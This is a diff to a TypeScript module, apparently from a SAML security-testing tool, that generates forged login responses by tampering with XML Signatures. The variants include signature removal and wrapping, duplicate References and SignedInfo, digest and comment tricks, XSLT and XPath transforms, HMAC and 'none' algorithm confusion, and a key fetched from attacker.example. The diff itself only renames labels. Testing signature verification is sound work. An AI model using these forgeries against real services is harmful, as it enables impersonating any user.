@@ -1,4 +1,4 @@
-// The Signature itself: taken away, moved, pointed elsewhere, or made by the attacker.
+// The Signature itself: taken away, moved, pointed elsewhere, or made by the attacker. What it covers is forged in each.
 import { before, behind, type Edit, removed, replaced } from "./edits.js";
 import { forgeryAgainst, type LoginParts, partOf, type Signed, signedParts, wholeOf } from "./login.js";
 import { ASSERTION, DSIG, HMAC_SHA256, XPATH, XSLT } from "./names.js";
@@ -10,7 +10,7 @@ export function signatureVariants(login: LoginParts, preparations: readonly Prep
   const signed = signedParts(login);
   if (signed.length === 0) return [];
   const one = signed.flatMap((each, at) => ofOne(login, each, preparations[at] ?? UNPREPARED, signed.length === 1 ? "the Signature" : `the Signature of the ${each.owner.local}`));
-  return [variant("Signature", "No Signature, and another name", "Whoever can write XML signs in as anybody.", wholeOf(login, [...login.forgery, ...signed.map(({ signature }) => removed(signature))])), ...moved(login), ...one];
+  return [variant("Signature", "No Signature", "Whoever can write XML signs in as anybody.", wholeOf(login, [...login.forgery, ...signed.map(({ signature }) => removed(signature))])), ...moved(login), ...one];
 }
 
 const UNPREPARED: Preparation = { digest: null, byOwnKey: null, byHmac: null };
@@ -23,7 +23,7 @@ function moved(login: LoginParts): Variant[] {
   const issuer = childNamed(response, ASSERTION, "Issuer");
   if (ofAssertion === null || ofResponse !== null || issuer === null) return [];
   const signature = partOf(login, ofAssertion.signature);
-  return [variant("Signature", "The Assertion's Signature moved to the Response, and another name", "A library that finds some Signature that verifies reads what is not covered.", wholeOf(login, [...login.forgery, removed(ofAssertion.signature), behind(issuer, signature)]))];
+  return [variant("Signature", "The Assertion's Signature moved to the Response", "A library that finds some Signature that verifies reads what is not covered.", wholeOf(login, [...login.forgery, removed(ofAssertion.signature), behind(issuer, signature)]))];
 }
 
 function ofOne(login: LoginParts, signed: Signed, prepared: Preparation, name: string): Variant[] {
@@ -37,13 +37,13 @@ function ofOne(login: LoginParts, signed: Signed, prepared: Preparation, name: s
   const parts = { owner, signature, info, reference, digest, value };
   const forged = (...edits: Edit[]) => wholeOf(login, [...forgeryAgainst(login, signed), ...edits]);
   return [
-    variant("Signature", `${capital(name)} emptied, and another name`, "A library that is content with the presence of a Signature verifies nothing.", forged(replaced(contentOf(signature), ""))),
-    variant("Signature", `${capital(name)} twice, and another name`, "A library that takes out each Signature of that value digests less than it reads.", forged(behind(signature, partOf(login, signature)))),
-    variant("Signature", `The Reference of ${name} emptied, and another name`, "An empty URI means the whole document to some, and nothing to others.", forged(replaced(uri.inner, ""))),
-    variant("Signature", `The Reference of ${name} to another ID, and another name`, "What is verified is another element than what is read.", forged(replaced(uri.inner, `#${otherId(login, owner)}`))),
-    variant("Signature", `A second Reference in ${name}, and another name`, "A library that checks only the last Reference, or the first, trusts the other.", forged(behind(reference, partOf(login, reference, [replaced(uri.inner, `#${otherId(login, owner)}`)])))),
-    variant("Signature", `A second SignedInfo in ${name}, and another name`, "The value is verified over the one, and the digest is read from the other.", forged(before(info, partOf(login, info, prepared.digest === null ? [] : [replaced(contentOf(digest), prepared.digest)])))),
-    variant("Signature", `The digest of nothing in ${name}, and another name`, "A library whose canonicalisation fails digests an empty text, and finds it equal.", forged(replaced(contentOf(digest), DIGEST_OF_NOTHING))),
+    variant("Signature", `${capital(name)} emptied`, "A library that is content with the presence of a Signature verifies nothing.", forged(replaced(contentOf(signature), ""))),
+    variant("Signature", `${capital(name)} twice`, "A library that takes out each Signature of that value digests less than it reads.", forged(behind(signature, partOf(login, signature)))),
+    variant("Signature", `The Reference of ${name} emptied`, "An empty URI means the whole document to some, and nothing to others.", forged(replaced(uri.inner, ""))),
+    variant("Signature", `The Reference of ${name} to another ID`, "What is verified is another element than what is read.", forged(replaced(uri.inner, `#${otherId(login, owner)}`))),
+    variant("Signature", `A second Reference in ${name}`, "A library that checks only the last Reference, or the first, trusts the other.", forged(behind(reference, partOf(login, reference, [replaced(uri.inner, `#${otherId(login, owner)}`)])))),
+    variant("Signature", `A second SignedInfo in ${name}`, "The value is verified over the one, and the digest is read from the other.", forged(before(info, partOf(login, info, prepared.digest === null ? [] : [replaced(contentOf(digest), prepared.digest)])))),
+    variant("Signature", `The digest of nothing in ${name}`, "A library whose canonicalisation fails digests an empty text, and finds it equal.", forged(replaced(contentOf(digest), DIGEST_OF_NOTHING))),
     ...ofDigest(parts, prepared, name, forged),
     ...ofAlgorithms(parts, prepared, name, forged),
     ...ofKeys(parts, prepared, name, forged),
@@ -62,9 +62,9 @@ type Forged = (...edits: Edit[]) => string;
 function ofDigest({ digest }: Parts, { digest: computed }: Preparation, name: string, forged: Forged): Variant[] {
   if (computed === null) return [];
   return [
-    variant("Signature", `The digest in ${name} computed anew, its value left, and another name`, "A library that checks digests, and not the signature over them, accepts any content.", forged(replaced(contentOf(digest), computed))),
-    variant("Signature", `A comment with the new digest in ${name}, and another name`, "The signature is verified without the comment, and a reader of the first text takes the digest in it for the real one.", forged(replaced({ start: digest.element.tagEnd, end: digest.element.tagEnd }, `<!--${computed}-->`))),
-    variant("Signature", `The new digest in front of a comment in ${name}, and another name`, "A reader that stops at the comment takes the attacker's digest.", forged(replaced({ start: digest.element.tagEnd, end: digest.element.tagEnd }, `${computed}<!---->`))),
+    variant("Signature", `The digest in ${name} computed anew, its value left`, "A library that checks digests, and not the signature over them, accepts any content.", forged(replaced(contentOf(digest), computed))),
+    variant("Signature", `A comment with the new digest in ${name}`, "The signature is verified without the comment, and a reader of the first text takes the digest in it for the real one.", forged(replaced({ start: digest.element.tagEnd, end: digest.element.tagEnd }, `<!--${computed}-->`))),
+    variant("Signature", `The new digest in front of a comment in ${name}`, "A reader that stops at the comment takes the attacker's digest.", forged(replaced({ start: digest.element.tagEnd, end: digest.element.tagEnd }, `${computed}<!---->`))),
   ];
 }
 
@@ -78,15 +78,15 @@ function ofAlgorithms({ info, value, reference, digest }: Parts, { byHmac }: Pre
   if (transforms !== null && transforms.element.contentEnd !== transforms.element.end) {
     const start = transforms.element.tagEnd;
     const transform = (text: string): Edit => ({ start, end: start, text });
-    add(`An XPath Transform in ${name}, and another name`, "The name is left out of what is digested.", forged(transform(`<q:Transform xmlns:q="${DSIG}" Algorithm="${XPATH}"><q:XPath xmlns:a="${ASSERTION}">not(ancestor-or-self::a:Subject)</q:XPath></q:Transform>`)));
-    add(`An XSLT Transform in ${name}, and another name`, "A style sheet of the attacker's runs in the library, before anything is verified.", forged(transform(`<q:Transform xmlns:q="${DSIG}" Algorithm="${XSLT}"><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/">x</x:template></x:stylesheet></q:Transform>`)));
+    add(`An XPath Transform in ${name}`, "The name is left out of what is digested.", forged(transform(`<q:Transform xmlns:q="${DSIG}" Algorithm="${XPATH}"><q:XPath xmlns:a="${ASSERTION}">not(ancestor-or-self::a:Subject)</q:XPath></q:Transform>`)));
+    add(`An XSLT Transform in ${name}`, "A style sheet of the attacker's runs in the library, before anything is verified.", forged(transform(`<q:Transform xmlns:q="${DSIG}" Algorithm="${XSLT}"><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/">x</x:template></x:stylesheet></q:Transform>`)));
   }
   if (algorithm !== null) {
     const mac = byHmac === null ? [] : [replaced(contentOf(digest), byHmac.digest), replaced(contentOf(value), byHmac.value)];
-    add(`The algorithm of ${name} changed to HMAC, ${byHmac === null ? "" : "computed with the public certificate, "}and another name`, "A library that takes the public key for a shared secret accepts what anybody can compute.", forged(replaced(algorithm.inner, HMAC_SHA256), ...mac));
-    add(`The algorithm of ${name} changed to none, its value emptied, and another name`, "A library that knows an algorithm that signs nothing verifies nothing.", forged(replaced(algorithm.inner, "none"), replaced(contentOf(value), "")));
+    add(`The algorithm of ${name} changed to HMAC${byHmac === null ? "" : ", computed with the public certificate"}`, "A library that takes the public key for a shared secret accepts what anybody can compute.", forged(replaced(algorithm.inner, HMAC_SHA256), ...mac));
+    add(`The algorithm of ${name} changed to none, its value emptied`, "A library that knows an algorithm that signs nothing verifies nothing.", forged(replaced(algorithm.inner, "none"), replaced(contentOf(value), "")));
   }
-  add(`The value of ${name} emptied, and another name`, "A library that compares with nothing finds nothing different.", forged(replaced(contentOf(value), "")));
+  add(`The value of ${name} emptied`, "A library that compares with nothing finds nothing different.", forged(replaced(contentOf(value), "")));
   return made;
 }
 
@@ -99,10 +99,10 @@ function ofKeys({ signature, digest, value, info }: Parts, { byOwnKey }: Prepara
   const wins = "A library that takes the key from the message lets the attacker choose it.";
   const group = "Keys and algorithms";
   const method = attributeNamed(childNamed(info, DSIG, "SignatureMethod"), "Algorithm");
-  const own = byOwnKey === null || method === null ? [] : [variant(group, `Signed anew by a key of the attacker's, which ${name} names, and another name`, wins, forged(replaced(method.inner, byOwnKey.algorithm), replaced(contentOf(digest), byOwnKey.digest), replaced(contentOf(value), byOwnKey.value), keyInfo(byOwnKey.keyInfo)))];
+  const own = byOwnKey === null || method === null ? [] : [variant(group, `Signed anew by a key of the attacker's, which ${name} names`, wins, forged(replaced(method.inner, byOwnKey.algorithm), replaced(contentOf(digest), byOwnKey.digest), replaced(contentOf(value), byOwnKey.value), keyInfo(byOwnKey.keyInfo)))];
   return [
-    variant(group, `Another certificate in ${name}, and another name`, wins, forged(keyInfo(`<q:X509Data><q:X509Certificate>${CERTIFICATE}</q:X509Certificate></q:X509Data>`))),
-    variant(group, `A key to fetch in ${name}, and another name`, "The library fetches the attacker's key, or what an address inside the network answers.", forged(keyInfo(`<q:RetrievalMethod URI="https://attacker.example/key.der" Type="${DSIG}rawX509Certificate"/>`))),
+    variant(group, `Another certificate in ${name}`, wins, forged(keyInfo(`<q:X509Data><q:X509Certificate>${CERTIFICATE}</q:X509Certificate></q:X509Data>`))),
+    variant(group, `A key to fetch in ${name}`, "The library fetches the attacker's key, or what an address inside the network answers.", forged(keyInfo(`<q:RetrievalMethod URI="https://attacker.example/key.der" Type="${DSIG}rawX509Certificate"/>`))),
     ...own,
   ];
 }
